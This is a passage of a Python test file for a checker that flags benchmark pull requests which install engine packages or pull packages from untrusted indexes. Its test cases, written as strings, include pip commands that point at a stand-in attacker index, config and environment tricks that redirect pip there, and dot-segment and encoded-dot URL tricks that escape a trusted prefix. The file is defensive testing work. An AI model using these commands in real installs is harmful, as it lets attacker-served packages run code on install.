        "uv tool run --from vllm==0.0.1 vllm --version",
        'uv run --with vllm==0.0.1 vllm serve "$MODEL" --port 8000 &',
        "pipx run --spec git+https://github.com/x/tool tool",
    ],
)
def test_packages_run_from_an_environment_of_their_own_are_installs(check, command):
    result = _engine_check(check, command)
    assert result.status == "FAIL" and "installs engine packages" in result.reason, result.reason


def test_running_the_harness_from_an_environment_of_its_own_is_allowed(check):
    assert _engine_check(check, "uvx --from aiperf==0.3 aiperf --version").status == "PASS"


# A package index or links page the PR chooses serves whatever it likes under any name (a
# package built there runs its own code as it installs): it counts unless the profile trusts it.
@pytest.mark.parametrize(
    "command",
    [
        "pip install --extra-index-url https://evil.example/simple -U aiperf",
        "pip install -i https://evil.example/simple datasets",
        "uv pip install --find-links=https://evil.example/wheels lmcache==0.3",
        "export PIP_EXTRA_INDEX_URL=https://evil.example/simple",
        'pip install --index-url "$INDEX" datasets',
        "PIP_FIND_LINKS=https://evil.example/wheels pip install -U aiperf",
        'export PIP_CONFIG_FILE="$(dirname "$0")/pip.conf"',
        "printf '[global]\\nindex-url = https://evil.example/simple\\n' > ~/.config/pip/pip.conf",
    ],
)
def test_an_index_the_profile_does_not_trust_is_patching(check, command):
    result = _engine_check(check, command)
    assert result.status == "FAIL", result.reason
    assert "installs from a package index" in result.reason, result.reason


def test_an_index_the_profile_trusts_is_allowed(check):
    url = "https://github.com/LMCache/LMCache/releases/expanded_assets/v0.3.9-rocm"
    command = f'pip install --no-deps "lmcache==0.3.9" --find-links "{url}"'
    assert _engine_check(check, command).status == "PASS"


def test_grep_and_rm_short_options_are_no_index(check):
    command = "grep -i vllm /tmp/log.txt > /dev/null || rm -f /tmp/log.txt"
    assert _engine_check(check, command).status == "PASS"


# The shared library's pip wrapper (`agentic_pip_install`, `python3 -m pip install "$@"`) installs
# what a script hands it; signoff does not read the unchanged library, so the profile names it.
@pytest.mark.parametrize(
    ("command", "named"),
    [
        ("agentic_pip_install vllm==0.0.1", "installs engine packages"),
        (
            "agentic_pip_install --no-deps lmcache --find-links https://evil.example/wheels",
            "installs from a package index",
        ),
    ],
)
def test_the_librarys_pip_wrapper_installs_as_pip_does(check, command, named):
    result = _engine_check(check, command)
    assert result.status == "FAIL" and named in result.reason, result.reason


def test_the_librarys_pip_wrapper_installing_other_packages_is_allowed(check):
    command = 'agentic_pip_install --quiet --no-deps "sortedcontainers==2.4.0" aiperf'
    assert _engine_check(check, command).status == "PASS"


@pytest.mark.parametrize(
    "command",
    [
        "pip install --find-links "
        "https://github.com/LMCache/LMCache/releases/../../x/y/releases lmcache",
        "pip install --find-links https://github.com/LMCache/LMCache/releases/%2e%2e/x lmcache",
        'INDEX="$(head -1 index.txt)"\npip install --find-links '
        'https://github.com/LMCache/LMCache/releases/v1 --extra-index-url="$INDEX" lmcache',
    ],
    ids=["dot-segments", "encoded-dots", "run-time-index-beside-a-trusted-one"],
)
def test_a_trusted_index_prefix_trusts_nothing_outside_it(check, command):
    result = _engine_check(check, command)
    assert result.status == "FAIL" and "installs from a package index" in result.reason, (
        result.reason
    )
